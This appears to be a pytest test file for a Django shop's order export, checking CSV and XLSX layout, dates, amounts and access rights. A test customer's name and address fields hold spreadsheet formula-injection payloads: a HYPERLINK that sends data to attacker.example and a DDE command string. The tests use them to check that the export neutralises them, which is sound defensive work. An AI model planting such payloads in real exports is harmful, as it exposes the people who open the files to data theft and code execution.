"""The orders export a bookkeeper can use: one row per order line, ISO dates, amounts as numbers (dollars
and cents), statuses in words, the address, carrier and tracking; and no formula a customer typed is
ever run by the spreadsheet (CSV and XLSX). PostgreSQL."""

import csv
import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.utils import timezone

from shop.models import Order, Product, Shipment, ShippingMethod
from shop.orders.checkout import Customer, place_order
from shop.orders.export import EXPORT_HEADINGS, status_words

ISO_SECOND = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00$")
# What an attacker types as a name and an address at checkout, hoping a bookkeeper's spreadsheet runs it.
HOSTILE = Customer(
    email="hostile.buyer@example.com",
    full_name='=HYPERLINK("http://attacker.example/?d="&A1,"Click for refund")',
    address_line1="+1+cmd|' /C calc'!A0",
    address_line2="-2+3",
    city="@SUM(1+1)",
    region="\tIL",
    postal_code="\r62701",
)


@pytest.fixture
def manager(client, django_user_model, demo):
    user = django_user_model.objects.create_user("order-manager", "om@example.com", "pw")
    user.groups.add(Group.objects.get(name="Order managers"))
    client.force_login(user)
    return client


@pytest.fixture
def two_line_order(demo):
    """A paid, shipped, partly refunded order of two lines, placed by a hostile customer."""
    items = {str(Product.objects.get(slug="clinicred").pk): 2, str(Product.objects.get(slug="protective-glasses").pk): 1}
    order = place_order(items=items, customer=HOSTILE, shipping_method_id=ShippingMethod.objects.get(name="Express").pk, checkout_key="export-1")
    paid_at = timezone.now().replace(microsecond=123456)
    Order.objects.filter(pk=order.pk).update(paid_at=paid_at, amount_paid_cents=order.total_cents, amount_refunded_cents=4000, payment_intent_id="pi_export")
    Shipment.objects.create(order=order, carrier="UPS", tracking_number="1Z999AA10123456784")
    order.refresh_from_db()
    return order


def download_csv(client, query=""):
    response = client.get(f"/admin/orders/?export=csv{query}")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="order-lines.csv"' in response["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_csv_has_one_row_per_line_with_numbers_dates_and_words(manager, two_line_order, make_order):
    other = make_order()  # another order, one line, unpaid
    rows = download_csv(manager)
    assert [r["Order"] for r in rows].count(two_line_order.number) == 2 and [r["Order"] for r in rows].count(other.number) == 1
    first, second = [r for r in rows if r["Order"] == two_line_order.number]
    assert (first["Quantity"], first["Unit price"], first["Unit price (cents)"], first["Line total"]) == ("2", "195.95", "19595", "391.90")
    lines = list(two_line_order.lines.all())
    for row, line in zip([first, second], lines, strict=True):
        assert row["Product"] == line.name and row["Quantity"] == str(line.quantity)
        assert Decimal(row["Line total"]) * 100 == int(row["Line total (cents)"]) == line.line_total_cents
        assert re.fullmatch(r"\d+\.\d\d", row["Unit price"]) and re.fullmatch(r"\d+", row["Unit price (cents)"])
        assert row["Currency"] == "USD"
        assert ISO_SECOND.match(row["Placed at (UTC)"]) and ISO_SECOND.match(row["Paid at (UTC)"]) and ISO_SECOND.match(row["Shipped at (UTC)"])
        assert row["Paid at (UTC)"] == two_line_order.paid_at.astimezone(datetime.UTC).replace(microsecond=0).isoformat()
        assert (row["Carrier"], row["Tracking number"]) == ("UPS", "1Z999AA10123456784")
        words = status_words(two_line_order)
        assert (row["Payment status"], row["Fulfilment status"]) == (words.payment, words.fulfilment)
        assert "_" not in row["Payment status"] + row["Fulfilment status"]  # words, not field values
        assert row["E-mail"] == "hostile.buyer@example.com" and row["Shipping method"] == "Express"
    # order-level amounts once per order, on its first line, so a column sums each order once
    assert (first["Order total"], first["Order total (cents)"]) == (f"{two_line_order.total_cents / 100:.2f}", str(two_line_order.total_cents))
    assert (first["Order refunded"], first["Order refunded (cents)"]) == ("40.00", "4000")
    assert first["Order shipping (cents)"] == str(two_line_order.shipping_cents)
    assert second["Order total"] == second["Order refunded"] == second["Order shipping"] == ""
    assert list(rows[0]) == list(EXPORT_HEADINGS.values())


def test_formulas_typed_by_a_customer_are_neutralised_in_csv(manager, two_line_order):
    row = download_csv(manager)[0]
    assert row["Customer"] == "'" + HOSTILE.full_name
    assert row["Address"] == "'" + HOSTILE.address_line1
    assert row["Address line 2"] == "'-2+3" and row["City"] == "'@SUM(1+1)"
    assert row["State"] == "'\tIL" and row["ZIP code"] == "'\r62701"
    assert row["Paid at (UTC)"][0].isdigit() and not row["Line total"].startswith("'")


def test_xlsx_has_numbers_dates_and_no_formula(manager, two_line_order):
    response = manager.get("/admin/orders/?export=xlsx")
    assert response.status_code == 200 and "spreadsheetml" in response["Content-Type"]
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, *rows = [list(r) for r in sheet.iter_rows()]
    column = {cell.value: index for index, cell in enumerate(header)}
    mine = [r for r in rows if r[column["Order"]].value == two_line_order.number]
    assert len(mine) == 2
    first = mine[0]
    for name in ["Customer", "Address", "Address line 2", "City", "State", "ZIP code"]:
        cell = first[column[name]]
        assert cell.data_type == "s" and cell.value.startswith("'"), name
    assert first[column["Customer"]].value == "'" + HOSTILE.full_name
    assert not any(cell.data_type == "f" for row in rows for cell in row)
    total = first[column["Order total"]]
    assert total.data_type == "n" and Decimal(str(total.value)) * 100 == two_line_order.total_cents and total.number_format == "0.00"
    assert first[column["Order total (cents)"]].value == two_line_order.total_cents
    paid = first[column["Paid at (UTC)"]]
    assert isinstance(paid.value, datetime.datetime) and paid.value.microsecond == 0
    assert paid.value == two_line_order.paid_at.astimezone(datetime.UTC).replace(microsecond=0, tzinfo=None)
    assert paid.number_format.startswith("yyyy-mm-dd")
    assert mine[1][column["Order total"]].value is None


def test_the_export_follows_the_listing_filters(manager, two_line_order, make_order):
    other = make_order()
    rows = download_csv(manager, "&q=hostile.buyer")
    assert {r["Order"] for r in rows} == {two_line_order.number} and len(rows) == 2
    assert other.number not in {r["Order"] for r in download_csv(manager, f"&q={two_line_order.number}")}


def test_an_editor_cannot_download_it(client, django_user_model, two_line_order):
    user = django_user_model.objects.create_user("content-editor", "ed@example.com", "pw")
    user.groups.add(Group.objects.get(name="Editors"))
    client.force_login(user)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/admin/orders/?export={fmt}")
        assert response.status_code in (302, 403)
        assert two_line_order.number.encode() not in (b"".join(response.streaming_content) if response.streaming else response.content)
